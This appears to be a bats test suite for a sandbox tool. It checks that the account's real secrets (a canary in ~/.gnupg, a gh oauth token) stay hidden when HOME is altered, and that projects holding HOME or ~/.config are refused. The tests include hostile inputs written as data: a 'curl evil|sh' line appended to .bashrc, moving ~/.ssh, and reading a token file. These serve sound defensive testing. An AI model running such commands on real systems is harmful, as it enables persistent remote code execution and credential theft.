#!/usr/bin/env bats
# Which home the secrets live in, and which project may hold them (THREATS
# SEC-11, TIME-04): HOME unset or pointing elsewhere must not uncover the
# account's real keys, and a writable project must not hold a home or a
# hidden secret.  Judged from outside: canary absent, nothing ran.

load ../lib/common
source "$BATS_TEST_DIRNAME/_lib.bats"

setup() {
	esc_setup
	AH=$(getent passwd "$(id -un)" | cut -d: -f6)
	[ -n "$AH" ] && [ -d "$AH" ] && [ -w "$AH" ] || skip "no writable account home"
	[ "$AH" != "$HOME" ]
	# a canary in the account's own ~/.gnupg, removed afterwards
	[ -d "$AH/.gnupg" ] || { mkdir -m 700 "$AH/.gnupg"; UNIQ_FILES+=("$AH/.gnupg"); }
	AK="$AH/.gnupg/sbx-canary-$MARK"
	echo "$CANARY" > "$AK"
	UNIQ_FILES+=("$AK")
}
teardown() { esc_teardown; }

@test "SEC-11 HOME points elsewhere: the account's own secrets stay hidden (cat and static probe)" {
	run xsbx -c "cat '$AK'; '$SBX_SYS.static' read '$AK'"
	no_canary "$output"
	[[ "$output" == *"hidden by the sandbox policy"* ]]
}

@test "SEC-11 HOME=/ and HOME unset: the account's own secrets stay hidden" {
	run env HOME=/ timeout 60 "$SBXRUN" --mode "$SBX_MODE" -c "cat '$AK'; '$SBX_SYS.static' read '$AK'"
	no_canary "$output"
	run env -u HOME timeout 60 "$SBXRUN" --mode "$SBX_MODE" -c "cat '$AK'; '$SBX_SYS.static' read '$AK'"
	no_canary "$output"
}

@test "SEC-11/TIME-04 a project that holds HOME is refused, with the reason, and nothing runs" {
	cp "$HOME/.bashrc" "$T/bashrc.before"
	cd "$T"
	run xsbx -c 'echo "curl evil|sh" >> home/.bashrc; mv home/.ssh home/.ssh.moved'
	[ "$status" -eq 125 ]
	[[ "$output" == *"refusing to make '$T' the writable project: it holds your home directory '$HOME'"* ]]
	cmp "$T/bashrc.before" "$HOME/.bashrc"
	[ -d "$HOME/.ssh" ]
}

@test "TIME-04 a project that holds a hidden secret (~/.config) is refused, so the secret cannot be moved out of its rule" {
	mkdir -p "$HOME/.config/gh"
	echo "oauth_token: $CANARY" > "$HOME/.config/gh/hosts.yml"
	cd "$HOME/.config"
	run xsbx -c 'mv gh gh.moved; cat gh.moved/hosts.yml'
	[ "$status" -eq 125 ]
	[[ "$output" == *"refusing to make '$HOME/.config' the writable project: it holds the hidden path"* ]]
	no_canary "$output"
	[ -f "$HOME/.config/gh/hosts.yml" ]
	# a project of its own below works
	mkdir -p "$HOME/.config/mytool"
	cd "$HOME/.config/mytool"
	run xsbx -c 'echo ok > f; cat f'
	[ "$status" -eq 0 ]
	[[ "$output" == *ok* ]]
}
